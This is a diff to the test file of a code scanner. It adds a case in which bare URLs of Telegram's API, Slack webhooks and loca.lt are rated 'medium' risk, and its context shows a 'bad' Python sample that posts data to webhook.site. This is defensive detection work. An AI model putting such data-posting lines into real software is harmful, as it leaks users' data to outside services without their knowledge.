@@ -17,6 +17,14 @@ test("bad: what it looks for", () => {
   ]) assert.equal(worst(code), 'high', code);
 });
 
+test("names of services alone are a hint", () => {
+  for (const code of [
+    "const root = \"https://api.telegram.org\"",
+    "const root = \"https://hooks.slack.com/\"",
+    "const host = \"https://loca.lt\"",
+  ]) assert.equal(worst(code), 'medium', code);
+});
+
 test("bad: the same in Python", () => {
   for (const code of [
     "requests.post(\"https://webhook.site/1\", data=d)",
